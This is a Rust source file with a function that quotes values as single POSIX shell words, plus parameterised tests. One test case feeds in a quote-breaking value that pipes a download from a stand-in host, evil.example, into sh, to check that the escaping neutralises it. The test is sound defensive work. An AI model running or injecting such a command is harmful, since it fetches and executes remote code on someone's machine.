//! Values in commands that people paste into a shell.

/// The value as one word of a POSIX shell, whatever is in it: somebody else may have chosen it.
pub(crate) fn shell_word(value: &str) -> String {
    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "-_./:@%+=,".contains(letter);
    if !value.is_empty() && value.chars().all(is_plain) {
        return value.to_owned();
    }
    format!("'{}'", value.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;

    #[rstest]
    #[case::plain("kube-system/pool_1.example", "kube-system/pool_1.example")]
    #[case::address("2001:db8::7", "2001:db8::7")]
    #[case::nothing("", "''")]
    #[case::blank("10.0.0.2: vms/web", "'10.0.0.2: vms/web'")]
    #[case::variable("$HOME", "'$HOME'")]
    #[case::home("~root", "'~root'")]
    #[case::end_of_the_quotes(
        "x'; curl http://evil.example/a|sh; '",
        r"'x'\''; curl http://evil.example/a|sh; '\'''"
    )]
    #[case::line("a\nb", "'a\nb'")]
    fn a_shell_takes_the_word_for_the_value_and_runs_nothing_of_it(
        #[case] value: &str,
        #[case] expected: &str,
    ) {
        assert_eq!(shell_word(value), expected);
    }
}
